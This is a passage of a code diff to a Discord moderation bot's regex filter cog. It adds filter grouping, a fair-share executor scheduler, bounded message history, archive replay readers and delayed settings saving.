+            'position'          : self.position.value,
+            'priv_exempt'       : self.priv_exempt
+        }
+
+        for k in ['roles_list', 'channels_list']:
+            if k in self.links:
+                data[k + '_link'] = self.links[k].name
+            else:
+                data[k] = getattr(self, k).to_json()
+
+        return data
+
+    def copy(self, new_name: str, link: bool = False, **kwargs):
+        new_kwargs = dict(
+            pattern=self.pattern,
+            flags=self.flags,
+            mode=self.mode,
+            enabled=False,
+            override=self.override,
+            priv_exempt=self.priv_exempt,
+            position=self.position,
+            attachment_header=self.attachment_header,
+            multi_msg=self.multi_msg,
+            multi_msg_group=self.multi_msg_group,
+            multi_msg_join=self.multi_msg_join,
+            asciify=self.asciify,
+            engine=self.engine
+        )
+
+        new_kwargs.update(kwargs)
+
+        for list_name in ['roles_list', 'channels_list']:
+            if link:
+                new_kwargs[list_name + '_link'] = self.name
+            else:
+                new_kwargs[list_name] = getattr(self, list_name)
+
+        return type(self)(self.parent, new_name, **new_kwargs)
+
+    @property
+    def filter_priority(self):
+        #  p e o m
+        #  3 1 1 0
+        #  2 1 1 1
+        #  1 1 0 1
+        #  0 1 0 0
+        # -1 0 x x
+        if not self.enabled:
+            return -1
+        elif self.override:
+            return 2 + int(not self.mode)
+
+        return int(self.mode)
+
+
+class FilterGroup:
+    """
+    Filters in a FilterSet that share an outcome, content and flags, and can be matched with one alternation
+    """
+    __slots__ = ['filters', 'override', 'mode', 'asciify', 'attachment_header', 'flags', 'position', 'engine',
+                 '_combined']
+
+    def __init__(self, first: Filter, asciify: bool):
+        self.filters = [first]
+        self.override = first.override
+        self.mode = first.mode
+        self.asciify = asciify
+        self.attachment_header = first.attachment_header
+        self.flags = first.flags
+        self.position = first.position
+        self.engine = first.match_engine
+        self._combined = BoundedOrderedDict(maxlen=COMBINED_CACHE_SIZE)
+
+    def build_pattern(self, members: Sequence[int]) -> str:
+        # A trailing comment in verbose mode would swallow the closing paren
+        end = '\n' if 'X' in self.flags.upper() else ''
+        return '|'.join('(?P<_f%i>%s%s)' % (i, self.filters[i].pattern, end) for i in members)
+
+    def spec_for(self, members: Sequence[int]) -> PatternSpec:
+        """
+        Returns a pattern spec that matches if any of the filters at the given indices would
+        """
+        if len(members) == 1:
+            return self.filters[members[0]].spec()
+
+        key = tuple(members)
+
+        if key not in self._combined:
+            self._combined[key] = (self.build_pattern(key), self.flags, self.position.value, 'match', self.engine)
+
+        return self._combined[key]
+
+
+class SequenceFilter:
+    """
+    A multi-message filter's settings as of when its FilterSet was built
+    """
+    __slots__ = ['filter', 'override', 'mode', 'asciify', 'attachment_header', 'position', 'join', 'group', 'kind',
+                 'spec', 'bounds']
+
+    def __init__(self, _filter: Filter, asciify: bool):
+        self.filter = _filter
+        self.override = _filter.override
+        self.mode = _filter.mode
+        self.asciify = asciify
+        self.attachment_header = _filter.attachment_header
+        self.position = _filter.position
+        self.join = _filter.multi_msg_join
+        self.group = _filter.multi_msg_group
+        self.kind = 'iter' if _filter.mode else 'match'
+        self.spec = _filter.spec(self.kind)
+
+        # Black filters only have to look at the part of the buffer a new match could touch
+        if not _filter.mode and _filter.position is POSITION.ANYWHERE:
+            self.bounds = _filter.bounds
+        else:
+            self.bounds = None
+
+
+class FilterSet:
+    """
+    Compiled view of a ServerConfig's filters, in evaluation order
+
+    Compatible filters are merged into one alternation per group so that a message is scanned once per group
+    instead of once per filter. Rebuilt whenever the ServerConfig's generation changes; checks take the current
+    set once and use only it, so an edit made while they wait on the executor applies from the next check on.
+
+    Also numbers every pattern spec sent to the executor during this generation, so that workers can cache the
+    compiled patterns and the parent only has to send the spec ids.
+    """
+    __slots__ = ['generation', 'groups', 'sequence', 'specs', '_spec_ids', 'exact_index', 'folded_index']
+
+    def __init__(self, config: ServerConfig):
+        self.generation = config.generation
+        self.groups = []
+        self.sequence = []
+        self.specs = []
+        self._spec_ids = {}
+        by_key = {}
+        literals = set()
+
+        # order is sorted by priority, so groups of different (override, mode) never interleave
+        for f in config.order:
+            if f.pattern_error:
+                continue
+
+            asciify = bool(f.asciify or (f.asciify is None and config.asciify))
+
+            if f.multi_msg:
+                self.sequence.append(SequenceFilter(f, asciify))
+                continue
+
+            key = (f.override, f.mode, asciify, f.attachment_header)
+
+            if f.combinable:
+                key += (f.flags, f.position, f.match_engine)
+            else:
+                key += (f.name,)
+
+            if key in by_key:
+                by_key[key].filters.append(f)
+            else:
+                by_key[key] = group = FilterGroup(f, asciify)
+                self.groups.append(group)
+
+            if not f.mode and f.literals:
+                literals.update(f.literals)
+
+        # If a merged pattern somehow doesn't compile, fall back to checking its filters one by one
+        for group in list(self.groups):
+            if len(group.filters) == 1:
+                continue
+
+            try:
+                re.compile(group.build_pattern(range(len(group.filters))), flags_to_int(group.flags))
+            except (re.error, OverflowError, RecursionError):
+                log.warning('Could not combine %i filters, checking them separately' % len(group.filters))
+                index = self.groups.index(group)
+                self.groups[index:index + 1] = [FilterGroup(f, group.asciify) for f in group.filters]
+
+        # Blacklist filters can be skipped if none of their required literals appear
+        self.exact_index = LiteralIndex(literal for fold, literal in literals if not fold)
+        self.folded_index = LiteralIndex(literal for fold, literal in literals if fold)
+
+    def __len__(self):
+        return sum(len(g.filters) for g in self.groups)
+
+    def find_literals(self, content: str) -> set:
+        """
+        Returns the (fold, literal) pairs from the filters' required literals that appear in content
+        """
+        found = set()
+
+        if self.exact_index:
+            found.update((False, literal) for literal in self.exact_index.search(content))
+
+        if self.folded_index:
+            found.update((True, literal) for literal in self.folded_index.search(fold_case(content)))
+
+        return found
+
+    def spec_id(self, spec: PatternSpec) -> int:
+        if spec not in self._spec_ids:
+            self._spec_ids[spec] = len(self.specs)
+            self.specs.append(spec)
+
+        return self._spec_ids[spec]
+
+
+class SchedulerLane:
+    """
+    One server's queue of executor calls waiting for a slot, and its wait statistics
+    """
+    __slots__ = ['queue', 'finish', 'in_flight', 'calls', 'total_wait', 'max_wait', 'max_queue']
+
+    def __init__(self):
+        self.queue = deque()  # (finish tag, cost, future, enqueued at)
+        self.finish = 0.0  # virtual finish tag of the last call queued
+        self.in_flight = 0
+        self.calls = 0
+        self.total_wait = 0.0
+        self.max_wait = 0.0
+        self.max_queue = 0
+
+    def record_wait(self, wait: float):
+        self.calls += 1
+        self.total_wait += wait
+        self.max_wait = max(self.max_wait, wait)
+
+
+class ExecutorScheduler:
+    """
+    Admits executor calls to the shared pool in weighted fair order across servers
+
+    At most capacity calls are in the pool at once. Waiting calls are tagged with a virtual finish time (cost / server
+    weight after the server's previous call, as in self-clocked fair queuing) and the lowest tag goes next. A server
+    with quota calls in flight only goes ahead of servers under their quota if none of them are waiting, so it can
+    borrow idle workers but not crowd others out. Servers with a dedicated pool skip the queue, but their calls are
+    still counted.
+
+    ready is a heap of (head tag, server id) for the lanes with waiting calls. Entries whose tag is no longer at the
+    head of their lane's queue are stale and skipped.
+    """
+    __slots__ = ['capacity', 'quota', 'weights', 'dedicated', 'lanes', 'ready', 'virtual_time', 'in_flight']
+
+    def __init__(self, capacity: int):
+        self.weights = {}
+        self.dedicated = set()
+        self.lanes = defaultdict(SchedulerLane)
+        self.ready = []
+        self.virtual_time = 0.0
+        self.in_flight = 0
+        self.resize(capacity)
+
+    def resize(self, capacity: int):
+        self.capacity = capacity
+        self.quota = max(1, int(capacity * SCHEDULER_SERVER_SHARE))
+        self.dispatch()
+
+    async def acquire(self, server_id: str, cost: int) -> bool:
+        """
+        Waits for the server's turn to submit a call of the given cost (number of checks)
+
+        Returns whether the call counts against the shared pool, to be passed back to release().
+        """
+        lane = self.lanes[server_id]
+
+        if server_id in self.dedicated:
+            lane.in_flight += 1
+            lane.record_wait(0.0)
+            return False
+
+        tag = max(self.virtual_time, lane.finish) + max(cost, 1) / self.weights.get(server_id, 1.0)
+        lane.finish = tag
+
+        # Nothing waits while there are free workers, so this call can have one
+        if not lane.queue and self.in_flight < self.capacity:
+            self.start(lane, tag, 0.0)
+            return True
+
+        future = asyncio.get_event_loop().create_future()
+
+        if not lane.queue:
+            heapq.heappush(self.ready, (tag, server_id))
+
+        lane.queue.append((tag, cost, future, time.perf_counter()))
+        lane.max_queue = max(lane.max_queue, len(lane.queue))
+
+        try:
+            await future
+        except asyncio.CancelledError:
+            if future.cancelled():
+                head = bool(lane.queue) and lane.queue[0][2] is future
+                lane.queue = deque(item for item in lane.queue if item[2] is not future)
+
+                if head and lane.queue:
+                    heapq.heappush(self.ready, (lane.queue[0][0], server_id))
+            else:  # admitted just before the cancel, so give the slot back
+                self.release(server_id, True)
+
+            raise
+
+        return True
+
+    def release(self, server_id: str, shared: bool):
+        self.lanes[server_id].in_flight -= 1
+
+        if shared:
+            self.in_flight -= 1
+            self.dispatch()
+
+    def start(self, lane: SchedulerLane, tag: float, wait: float):
+        self.virtual_time = max(self.virtual_time, tag)
+        self.in_flight += 1
+        lane.in_flight += 1
+        lane.record_wait(wait)
+
+    def dispatch(self):
+        over_quota = []  # lanes passed over for now, in tag order
+
+        while self.in_flight < self.capacity:
+            if self.ready:
+                tag, server_id = heapq.heappop(self.ready)
+                lane = self.lanes[server_id]
+
+                if not lane.queue or lane.queue[0][0] != tag:  # stale
+                    continue
+                elif lane.in_flight >= self.quota:
+                    over_quota.append((tag, server_id))
+                    continue
+            elif over_quota:  # no one under their quota is waiting, so the lowest tag borrows a worker
+                tag, server_id = over_quota.pop(0)
+                lane = self.lanes[server_id]
+            else:
+                break
+
+            _, cost, future, enqueued = lane.queue.popleft()
+
+            if lane.queue:
+                heapq.heappush(self.ready, (lane.queue[0][0], server_id))
+
+            if future.done():  # cancelled while waiting
+                continue
+
+            self.start(lane, tag, time.perf_counter() - enqueued)
+            future.set_result(None)
+
+        for item in over_quota:
+            heapq.heappush(self.ready, item)
+
+
+class HistoryRecord:
+    """
+    What multi-message filters and deletion need from a recent message, so the Message itself can be let go
+    """
+    __slots__ = ['id', 'timestamp', 'channel', 'author', 'content', 'attachments', 'variants', 'size']
+
+    def __init__(self, message: Message):
+        self.id = message.id
+        self.timestamp = message.timestamp
+        self.channel = message.channel  # these two are shared with the client's cache
+        self.author = message.author
+        self.content = message.content
+        self.attachments = [{'filename': message.attachments[0]['filename']}] if message.attachments else []
+        self.variants = {}  # preprocessed contents, keyed by (asciify, attachment header)
+        self.size = HISTORY_RECORD_OVERHEAD + sys.getsizeof(self.content)
+
+    @property
+    def server(self):
+        return self.channel.server
+
+    def add_variant(self, key: Tuple[bool, bool], content: str):
+        if content != self.content:
+            self.size += sys.getsizeof(content)
+        else:
+            content = self.content
+
+        self.variants[key] = content
+
+
+class MessageHistory:
+    """
+    Recent messages of each (channel, author) as HistoryRecords, for multi-message filters
+
+    Each key keeps at most MSG_HISTORY_MAX_NUM records from the last MSG_HISTORY_MAX_TIME seconds. All keys
+    together are kept under a byte budget by dropping the least recently active ones, and keys with nothing
+    left are removed. Sizes are estimates, recounted whenever a key is updated or swept.
+    """
+    __slots__ = ['budget', 'keys', 'sizes', 'total', 'evicted', 'expired']
+
+    def __init__(self, budget: int):
+        self.budget = budget
+        self.keys = OrderedDict()  # least recently active first
+        self.sizes = {}
+        self.total = 0
+        self.evicted = 0
+        self.expired = 0
+
+    def __contains__(self, key: Tuple[str, str]) -> bool:
+        return key in self.keys
+
+    def __len__(self):
+        return len(self.keys)
+
+    def get(self, key: Tuple[str, str]) -> BoundedOrderedDict:
+        """
+        Returns the key's records, with expired ones removed, as the most recently active key
+        """
+        records = self.keys.get(key)
+
+        if records is None:
+            self.keys[key] = records = BoundedOrderedDict(maxlen=MSG_HISTORY_MAX_NUM)
+            self.sizes[key] = 0
+        else:
+            self.keys.move_to_end(key)
+            self.expire(records)
+
+        return records
+
+    def expire(self, records: BoundedOrderedDict, cutoff: Optional[datetime] = None):
+        if cutoff is None:
+            cutoff = datetime.utcnow() - timedelta(seconds=MSG_HISTORY_MAX_TIME)
+
+        for record in list(records.values()):
+            if record.timestamp > cutoff:
+                break
+
+            records.popitem(last=False)  # popleft
+            self.expired += 1
+
+    def update(self, key: Tuple[str, str]):
+        """
+        Recounts a key's size after its records changed, then drops other keys while over budget
+        """
+        records = self.keys.get(key)
+
+        if records is None:
+            return
+        elif not records:
+            self.discard(key)
+            return
+
+        size = sum(r.size for r in records.values())
+        self.total += size - self.sizes[key]
+        self.sizes[key] = size
+
+        while self.total > self.budget and len(self.keys) > 1:
+            oldest = next(iter(self.keys))
+
+            if oldest == key:
+                break
+
+            self.discard(oldest)
+            self.evicted += 1
+
+    def discard(self, key: Tuple[str, str]):
+        if self.keys.pop(key, None) is not None:
+            self.total -= self.sizes.pop(key)
+
+    def sweep(self, keys: Iterable[Tuple[str, str]]):
+        """
+        Drops expired records of the given keys, and the keys left empty
+        """
+        cutoff = datetime.utcnow() - timedelta(seconds=MSG_HISTORY_MAX_TIME)
+
+        for key in keys:
+            records = self.keys.get(key)
+
+            if records is not None:
+                self.expire(records, cutoff)
+                self.update(key)
+
+    def stats(self) -> dict:
+        return {
+            'keys': len(self.keys),
+            'records': sum(len(r) for r in self.keys.values()),
+            'bytes': self.total,
+            'budget': self.budget,
+            'evicted': self.evicted,
+            'expired': self.expired
+        }
+
+
+class MessageBatch:
+    """
+    Messages from one server waiting to be checked together, each with the multi-message history it ends (if any)
+    and a future for the results
+    """
+    __slots__ = ['settings', 'messages', 'list_caches', 'sequences', 'futures', 'handle']
+
+    def __init__(self, settings: ServerConfig):
+        self.settings = settings
+        self.messages = []
+        self.list_caches = []
+        self.sequences = []
+        self.futures = []
+        self.handle = None
+
+    def __len__(self):
+        return len(self.messages)
+
+    def add(self, message: Message, list_cache: dict, sequence: Optional[List[Message]], future: asyncio.Future):
+        self.messages.append(message)
+        self.list_caches.append(list_cache)
+        self.sequences.append(sequence)
+        self.futures.append(future)
+
+
+# activitylog's message, edit and delete entries, see activitylog.py
+ACTIVITYLOG_TIMESTAMP_FORMAT = '%Y-%m-%d %H:%M:%S'
+ACTIVITYLOG_LINE = re.compile(r'^(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d) #(\S+) @(.+?#\d{4})(?:: | )(.*)$')
+ACTIVITYLOG_EDIT = re.compile(r'^edited message from (\d{4}-\d\d-\d\d \d\d:\d\d:\d\d) \(.*\) to read: (.*)$')
+ACTIVITYLOG_DELETE = re.compile(r'^deleted message from (\d{4}-\d\d-\d\d \d\d:\d\d:\d\d) \((.*)\)$')
+ACTIVITYLOG_ATTACHMENT = re.compile(r'^(.*) \(attachment (?:url\(s\): |saved to )([^,]*?)(?:,[^)]*)?\)'
+                                    r'(?: \(filename truncated\))?$')
+
+
+class ReplayMessage:
+    """
+    Stand-in for a Message read from an archive or generated for a benchmark, with just what the checks look at
+    """
+    __slots__ = ['id', 'channel', 'author', 'content', 'attachments', 'timestamp', 'deleted']
+
+    def __init__(self, index: int, channel: str, author: str, content: str, timestamp: Optional[datetime] = None,
+                 attachments: Sequence[str] = (), deleted: Optional[bool] = None, *, roles: Sequence[str] = ()):
+        self.id = '%020i' % index  # same length, so they compare like snowflakes
+        self.channel = DiscordObject(channel)
+        self.author = DiscordObject(author)
+        self.author.roles = [DiscordObject(r) for r in roles]
+        self.content = content
+        self.attachments = [{'filename': a} for a in attachments]
+        self.timestamp = timestamp or datetime.utcnow()
+        self.deleted = deleted  # None if the archive doesn't say
 
-        self.position = POSITION(data.get('position', POSITION.ANYWHERE))
-        self.rebuild_predicate()
-        self.mm_white_lastmatch_cache = {}
 
-        self.links = {}
+def read_activitylog(path: str, counter: Iterator[int]) -> Iterator[Optional[ReplayMessage]]:
+    """
+    Reads channel logs written by activitylog from a directory tree or a single .log file, a line at a time
 
-        for k in ['roles_list', 'channels_list']:
-            if isinstance(data.get(k), FilterList):
-                self.set_list(k, new_list_obj=data[k])
-            else:
-                self.set_list(k, link_dest=data.get(k + '_link'), defer=defer_link, new_list_data=data.get(k, {}))
+    Edits are replayed as new messages. Messages that the log later shows being deleted are marked as deleted once
+    that line is read, so a message's deleted flag is only final at the None that follows each file.
+    """
+    if os.path.isdir(path):
+        files = sorted(os.path.join(root, f) for root, dirs, names in os.walk(path)
+                       for f in names if f.endswith('.log') and f != 'server.log')
+    else:
+        files = [path]
 
-    def set_list(self, list_name, *, link_dest=None, defer=False, new_list_data=None, new_list_obj: FilterList = None):
-        list_val = None
-        server_list = getattr(self.parent, list_name)
+    for fname in files:
+        channel = os.path.basename(fname)[:-4].rsplit('_', 1)[-1]  # strip any rotation prefix
+        by_key = {}
 
-        if not link_dest:
-            if new_list_data is None and not new_list_obj:
-                raise TypeError("list_data or list_obj required without link_dest")
-            elif new_list_obj and new_list_data is not None:
-                raise TypeError("only list_data or list_obj can be passed, not both")
-            elif new_list_obj:
-                list_val = new_list_obj
-            else:
-                item_type = type_from_name(list_name)
-                list_val = FilterList(self, list_name, item_type, base_list=server_list, **new_list_data)
+        with open(fname, encoding='utf-8', errors='replace') as f:
+            for line in f:
+                match = ACTIVITYLOG_LINE.match(line.rstrip('\n'))
 
-            self.links.pop(list_name, None)
-        elif link_dest == 'SERVER':
-            list_val = server_list
-            self.links[list_name] = self.parent
-        elif not defer:
-            linked_filter = self.parent.filters[link_dest]
-            self.links[list_name] = linked_filter
-            list_val = getattr(linked_filter, list_name)
+                if not match:
+                    continue
 
-        setattr(self, list_name, list_val)
+                timestamp, channel_name, author, rest = match.groups()
+                timestamp = datetime.strptime(timestamp, ACTIVITYLOG_TIMESTAMP_FORMAT)
+                rest = rest.replace('\\n', '\n')
+                deleted = ACTIVITYLOG_DELETE.match(rest)
+                edited = ACTIVITYLOG_EDIT.match(rest)
 
-    def rebuild_predicate(self):
-        try:
-            self._compiled = compiled = re.compile(self.pattern, flags_to_int(self.flags))
-        except re.error:
-            self._predicate = False
-            self._compiled = None
-            return False, None
+                if deleted:
+                    record = by_key.get((author, deleted.group(1), deleted.group(2)))
 
-        if self.position == POSITION.START:
-            match_func = compiled.match
-        elif self.position == POSITION.FULL:
-            match_func = compiled.fullmatch
-        elif self.position == POSITION.ANYWHERE:
-            match_func = compiled.search
-        else:
-            raise ValueError("Unknown position value: %s" % self.position)
+                    if record:
+                        record.deleted = True
 
-        self._predicate = predicate = partial(check_match, match_func)
-        return predicate, compiled
+                    continue
+                elif edited:
+                    original, content = edited.groups()
+                elif line[match.end(3)] != ':':  # some other kind of entry
+                    continue
+                else:
+                    original, content = match.group(1), rest
 
-    @property
-    def predicate(self):
-        if not self._predicate:
-            predicate, compiled = self.rebuild_predicate()
-            return predicate
+                attachment = ACTIVITYLOG_ATTACHMENT.match(content)
+                attachments = ()
 
-        return self._predicate
+                if attachment:
+                    content, url = attachment.groups()
+                    attachments = (url.rsplit('/', 1)[-1],)
 
-    @property
-    def compiled(self):
-        if not self._compiled:
-            predicate, compiled = self.rebuild_predicate()
-            return compiled
+                record = ReplayMessage(next(counter), channel, author, content, timestamp, attachments, False)
+                by_key[(author, original, content)] = record
+                yield record
 
-        return self._compiled
+        yield None
 
-    def check_meta(self, message: Message, cache=None, debug=False):
-        """
-        Return True if message is eligible for regex check
-        """
-        if not self.enabled:
-            if debug:
-                return False, 'disabled'
-            return False
 
-        if cache is None:
-            cache = {}
+def read_jsonl(path: str, counter: Iterator[int]) -> Iterator[Optional[ReplayMessage]]:
+    """
+    Reads one JSON object per line, with a content key and optionally channel_id, author_id, timestamp (ISO 8601),
+    attachments (list of filenames) and deleted (bool)
+    """
+    with open(path, encoding='utf-8') as f:
+        for line in f:
+            if not line.strip():
+                continue
 
-        if 'mos' in cache:
-            mos = cache['mos']
-        else:
-            cache['mos'] = mos = self.parent.cog.is_mod_or_superior(message)
+            data = json.loads(line)
+            timestamp = data.get('timestamp')
 
-        if mos:
-            if self.priv_exempt:
-                if debug:
-                    return False, 'immediate priv_exempt'
-                return False
-            elif self.priv_exempt is None and self.parent.priv_exempt:
-                if debug:
-                    return False, 'parent priv_exempt'
-                return False
+            if timestamp:
+                timestamp = datetime.strptime(timestamp[:19], '%Y-%m-%dT%H:%M:%S')
 
-        if self.channels_list in cache:
-            clr = cache[self.channels_list]
-        else:
-            cache[self.channels_list] = clr = self.channels_list.check(message.channel)
+            attachments = [a['filename'] if isinstance(a, dict) else a for a in data.get('attachments', ())]
+            yield ReplayMessage(next(counter), str(data.get('channel_id', '0')), str(data.get('author_id', '0')),
+                                data.get('content') or '', timestamp, attachments, data.get('deleted'))
 
-        if clr is False:
-            if debug:
-                return False, 'not in channel list'
-            return False
+    yield None
 
-        if self.roles_list in cache:
-            rlr = cache[self.roles_list]
-        else:
-            cache[self.roles_list] = rlr = self.roles_list.check_iter(message.author.roles)
 
-        if rlr is False:
-            if debug:
-                return False, 'not in role list'
-            return False
+class ArchiveReader:
+    """
+    Reads an archive in chunks of REPLAY_CHUNK_SIZE messages, up to limit in all; each call blocks on file I/O and
+    parsing, so it's meant to be run in an executor
 
-        if debug:
-            return True, 'meta matched'
-        return True
+    The readers yield None after each file, once its messages' deleted flags are final. deleted counts the messages
+    handed out that the archive shows as deleted, as of the last file finished.
+    """
+    __slots__ = ['records', 'limit', 'count', 'deleted', 'pending']
 
-    def to_json(self):
-        data = {
-            'asciify'           : self.asciify,
-            'attachment_header' : self.attachment_header,
-            'enabled'           : self.enabled,
-            'flags'             : self.flags,
-            'mode'              : self.mode,
-            'multi_msg'         : self.multi_msg,
-            'multi_msg_join'    : self.multi_msg_join,
-            'multi_msg_group'   : self.multi_msg_group,
-            'override'          : self.override,
-            'pattern'           : self.pattern,
-            'position'          : self.position.value,
-            'priv_exempt'       : self.priv_exempt
-        }
+    def __init__(self, path: str, limit: Optional[int] = None):
+        counter = itertools.count(1)
 
-        for k in ['roles_list', 'channels_list']:
-            if k in self.links:
-                data[k + '_link'] = self.links[k].name
-            else:
-                data[k] = getattr(self, k).to_json()
+        if path.endswith(('.jsonl', '.json')):
+            self.records = read_jsonl(path, counter)
+        else:
+            self.records = read_activitylog(path, counter)
 
-        return data
+        self.limit = limit
+        self.count = 0
+        self.deleted = 0
+        self.pending = []  # handed out from the file being read
 
-    def copy(self, new_name: str, link: bool = False, **kwargs):
-        new_kwargs = dict(
-            pattern=self.pattern,
-            flags=self.flags,
-            mode=self.mode,
-            enabled=False,
-            override=self.override,
-            priv_exempt=self.priv_exempt,
-            position=self.position,
-            attachment_header=self.attachment_header,
-            multi_msg=self.multi_msg,
-            multi_msg_group=self.multi_msg_group,
-            multi_msg_join=self.multi_msg_join,
-            asciify=self.asciify
-        )
+    def next_chunk(self) -> List[ReplayMessage]:
+        """
+        Returns the next chunk of messages, or an empty list at the end of the archive or the limit
+        """
+        chunk = []
 
-        new_kwargs.update(kwargs)
+        while len(chunk) < REPLAY_CHUNK_SIZE and (self.limit is None or self.count < self.limit):
+            record = next(self.records, StopIteration)
 
-        for list_name in ['roles_list', 'channels_list']:
-            if link:
-                new_kwargs[list_name + '_link'] = self.name
+            if record is StopIteration:
+                break
+            elif record is None:
+                self.end_file()
             else:
-                new_kwargs[list_name] = getattr(self, list_name)
+                chunk.append(record)
+                self.pending.append(record)
+                self.count += 1
 
-        return type(self)(self.parent, new_name, **new_kwargs)
+        return chunk
 
-    @property
-    def filter_priority(self):
-        #  p e o m
-        #  3 1 1 0
-        #  2 1 1 1
-        #  1 1 0 1
-        #  0 1 0 0
-        # -1 0 x x
-        if not self.enabled:
-            return -1
-        elif self.override:
-            return 2 + int(not self.mode)
+    def finish(self):
+        """
+        Reads the rest of the current file, for the deletions of messages already handed out
+        """
+        for record in self.records:
+            if record is None:
+                break
 
-        return int(self.mode)
+        self.end_file()
+        self.records.close()
+
+    def end_file(self):
+        self.deleted += sum(bool(r.deleted) for r in self.pending)
+        self.pending.clear()
 
 
 class ReCensor:
@@ -1160,7 +2804,9 @@ class ReCensor:
     #           name (str) : {
     #               'asciify'           : tristate (default null),
     #               'attachment_header' : bool (default false),
+    #               'disabled_reason'   : optional str (set when auto-disabled),
     #               'enabled'           : bool (default false),
+    #               'engine'            : str from ENGINES (default 're'),
     #               'flags'             : flags (str containing subset of AILUMSX, default DEFAULT_FLAGS),
     #               'mode'              : bool (default false),
     #               'multi_msg'         : bool (default false),
@@ -1183,6 +2829,7 @@ class ReCensor:
     #           }
     #       },
     #       'asciify'       : bool (default false),
+    #       'batch_window'  : int (milliseconds, default 0 = disabled),
     #       'priv_exempt'   : bool (default true),
     #       'roles_list'    : {
     #                   'mode'  :   tristate,
@@ -1200,22 +2847,62 @@ class ReCensor:
         self.ready = False
 
         self.executor = ExecutorClass()
+        self.scheduler = ExecutorScheduler(pool_size(self.executor))
+        self.pools = {}  # server id -> dedicated executor
         self.settings = {}
         self.misc_data = {}
         self._ignore_filters = {}
-        self._message_cache = defaultdict(lambda: BoundedOrderedDict(maxlen=MSG_HISTORY_MAX_NUM))
+        self._message_cache = MessageHistory(HISTORY_BYTE_BUDGET)
         self._deleting = set()
+        self._diagnosing = set()
+        self._batches = {}
+        self._dirty = set()  # server ids whose files need writing, None for regexen.json
+        self._edit_hashes = BoundedOrderedDict(maxlen=EDIT_HASH_CACHE_SIZE)  # message id -> content_hash
+        self._edit_waiting = {}  # message id -> latest edit held back by EDIT_COALESCE_WINDOW, or None
+        self._save_task = None
+        self.warm_executor()
+
+        load_start = time.perf_counter()
+        self.pattern_cache = PatternCache(dataIO.load_json(PATTERN_CACHE_PATH)
+                                          if dataIO.is_valid_json(PATTERN_CACHE_PATH) else None)
 
         data = dataIO.load_json(JSON_PATH)
-        if data.get('_schema_version', 1) < 2:
-            data = migrate_data(data)
-            dataIO.save_json(JSON_PATH, data)
+        if data.get('_schema_version', 1) < 3:
+            data = migrate_storage(data)
 
-        for k, v in data.items():
-            if k.startswith('_') or type(v) is not dict or not k.isnumeric():
-                self.misc_data[k] = v
-            else:
-                self.settings[k] = ServerConfig(self, **v)
+        self.misc_data.update(data)
+
+        for filename in os.listdir(SERVERS_PATH):
+            server_id, ext = os.path.splitext(filename)
+
+            if ext != '.json' or not server_id.isnumeric():
+                continue
+
+            try:
+                server_data = dataIO.load_json(SERVERS_PATH + filename)
+            except Exception:
+                log.exception('Error loading settings for server %s' % server_id)
+                continue
+
+            self.settings[server_id] = ServerConfig(self, server_id, **server_data)
+
+        self.load_report = {
+            'seconds'  : time.perf_counter() - load_start,
+            'servers'  : len(self.settings),
+            'filters'  : sum(len(settings.filters) for settings in self.settings.values()),
+            'cached'   : self.pattern_cache.hits,
+            'analyzed' : self.pattern_cache.misses
+        }
+        log.info('Loaded %(filters)i filter(s) for %(servers)i server(s) in %(seconds).3fs, '
+                 '%(cached)i pattern(s) from cache and %(analyzed)i analyzed' % self.load_report)
+
+        if self.pattern_cache.dirty:
+            self.save_now()
+
+        self.configure_scheduler()
+        self.load_stats()
+        self.stats_task = bot.loop.create_task(self.stats_saver())
+        self.sweep_task = bot.loop.create_task(self.history_sweeper())
 
         try:
             # noinspection PyUnresolvedReferences
@@ -1247,14 +2934,104 @@ class ReCensor:
 
     def __unload(self):
         self.ready = False
+        self.stats_task.cancel()
+        self.sweep_task.cancel()
+
+        if self._save_task:
+            self._save_task.cancel()
+
         self.executor.shutdown(wait=True)
-        self.save()
 
-    def save(self):
-        data = {'_schema_version': 2}
-        data.update(self.misc_data)
-        data.update({k: v.to_json() for k, v in self.settings.items()})
-        dataIO.save_json(JSON_PATH, data)
+        for pool in self.pools.values():
+            pool.shutdown(wait=True)
+
+        self.save_now()
+        self.save_stats()
+
+    def save(self, server_id: str = None):
+        """
+        Schedules a server's settings, or regexen.json if no server is given, to be written SAVE_DELAY seconds from
+        now, along with any other changes until then
+        """
+        self._dirty.add(server_id)
+
+        if self._save_task is None or self._save_task.done():
+            self._save_task = self.bot.loop.create_task(self._save_later())
+
+    async def _save_later(self):
+        while self._dirty:
+            await asyncio.sleep(SAVE_DELAY)
+
+            # to_json copies everything, so only the dumps and writes need to leave the loop
+            try:
+                await self.bot.loop.run_in_executor(None, save_json_files, self.dirty_json())
+            except Exception:
+                log.exception('Error saving settings')
+
+    def save_now(self):
+        save_json_files(self.dirty_json())
+
+    def dirty_json(self) -> List[Tuple[str, dict]]:
+        """
+        Returns (path, data) for every file with unsaved changes, the pattern cache included, and marks them clean
+        """
+        dirty, self._dirty = self._dirty, set()
+        files = []
+
+        for server_id in dirty:
+            if server_id is None:
+                data = dict(self.misc_data)
+                data['_schema_version'] = 3
+                files.append((JSON_PATH, data))
+            elif server_id in self.settings:
+                files.append((server_path(server_id), self.settings[server_id].to_json()))
+
+        if self.pattern_cache.dirty:
+            self.pattern_cache.dirty = False
+            files.append((PATTERN_CACHE_PATH, self.pattern_cache.to_json()))
+
+        return files
+
+    def load_stats(self):
+        if not dataIO.is_valid_json(STATS_PATH):
+            return
+
+        for server_id, server_stats in dataIO.load_json(STATS_PATH).items():
+            settings = self.settings.get(server_id)
+
+            for name, filter_stats in (server_stats.items() if settings else ()):
+                if name in settings.filters:
+                    settings.filters[name].stats = FilterStats(**filter_stats)
+
+    def save_stats(self):
+        data = {}
+
+        for server_id, settings in self.settings.items():
+            server_stats = {k: f.stats.to_json() for k, f in settings.filters.items() if f.stats.calls}
+
+            if server_stats:
+                data[server_id] = server_stats
+
+        dataIO.save_json(STATS_PATH, data)
+
+    async def stats_saver(self):
+        while True:
+            await asyncio.sleep(STATS_SAVE_INTERVAL)
+
+            try:
+                self.save_stats()
+            except Exception:
+                log.exception('Error saving filter stats')
+
+    async def history_sweeper(self):
+        while True:
+            await asyncio.sleep(HISTORY_SWEEP_INTERVAL)
+            keys = list(self._message_cache.keys)
+
+            # In slices, so a big sweep doesn't hold up the loop
+            for i in range(0, len(keys), 1000):
+                self._message_cache.sweep(keys[i:i + 1000])
+                await asyncio.sleep(0)
 
     @commands.group(name='recensor', pass_context=True, invoke_without_command=True, no_pm=True, rest_is_raw=True)
     @checks.mod_or_permissions(manage_messages=True)
